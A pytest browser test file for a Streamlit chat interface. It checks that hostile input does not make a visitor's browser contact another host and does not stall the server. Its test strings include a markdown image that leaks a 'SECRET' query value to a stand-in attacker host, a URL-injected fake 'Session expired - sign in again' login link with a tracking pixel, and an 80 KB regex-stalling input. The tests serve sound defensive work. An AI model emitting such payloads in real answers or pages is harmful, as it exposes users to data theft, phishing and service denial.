"""Hostile input as a visitor's browser meets it: headless Chromium on ``streamlit run``
with replica Spaces on 127.0.0.1. Nothing a URL, a message or a Space sends makes the
browser fetch from another host, and one visitor's hostile message does not stall the
server for the others."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Server
from tests.browser.test_browser import answer_text, ask, last_message
from tests.replicas import script

pytestmark = [pytest.mark.browser, pytest.mark.replica]
MAX_SYSTEM = "You are a helpful assistant."


class Recorder(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        Recorder.hits.append(self.path)
        self.send_response(200)
        self.send_header("content-type", "image/png")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def tracker() -> Iterator[tuple[str, list[str]]]:
    """A loopback HTTP server that records every request: the 'attacker's' host."""
    Recorder.hits = []
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", Recorder.hits
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_an_image_in_an_answer_is_not_fetched_and_shows_as_a_link(page: Page, tracker):
    host, hits = tracker
    question = f"look ![leak]({host}/leak.png?c=SECRET) here"
    ask(page, question)
    expected = script.expected_answer(question, system=MAX_SYSTEM)
    expect(last_message(page)).to_contain_text("ECHO query=look", timeout=30_000)
    expect(page.get_by_role("button", name="Regenerate")).to_be_visible(timeout=30_000)
    assert "leak" in answer_text(page) and expected.startswith("ECHO query=look !")
    links = page.locator(f"a[href^='{host}']")
    assert links.count() >= 2  # the question and the answer: links, not images
    assert page.locator(f"img[src^='{host}']").count() == 0
    page.wait_for_timeout(1000)
    assert hits == []


def test_a_shared_link_shows_its_text_but_no_link_and_no_image(page: Page, server: Server,
                                                               tracker):
    host, hits = tracker
    hostile = (f"x) [Session expired - sign in again]({host}/login) "
               f"![t]({host}/pixel.png) (")
    page.goto(f"{server.url}/?model={quote(hostile)}")
    warning = page.get_by_test_id("stAlertContentWarning").first
    expect(warning).to_contain_text("Session expired - sign in again", timeout=30_000)
    assert page.locator(f"a[href^='{host}']").count() == 0
    assert page.locator(f"img[src^='{host}']").count() == 0
    page.wait_for_timeout(500)
    assert hits == []


def test_a_message_of_80_kb_latex_openers_does_not_stall_the_server(page: Page,
                                                                    server: Server):
    """80 KB took 27 s with the quadratic regexes, holding the GIL: /_stcore/health
    stalled for every visitor. Now the health check answers promptly throughout."""
    stalls: list[float] = []
    done = threading.Event()

    def probe() -> None:
        with httpx.Client(timeout=30, trust_env=False) as client:
            while not done.is_set():
                start = time.perf_counter()
                client.get(f"{server.url}/_stcore/health")
                stalls.append(time.perf_counter() - start)
                time.sleep(0.05)

    prober = threading.Thread(target=probe)
    prober.start()
    try:
        box = page.get_by_test_id("stChatInputTextArea")
        box.fill("\\[" * 40_000)
        box.press("Enter")
        expect(last_message(page)).to_contain_text("ECHO query=", timeout=60_000)
        expect(page.get_by_role("button", name="Regenerate")).to_be_visible(timeout=60_000)
    finally:
        done.set()
        prober.join()
    assert max(stalls) < 1.0, sorted(stalls)[-5:]
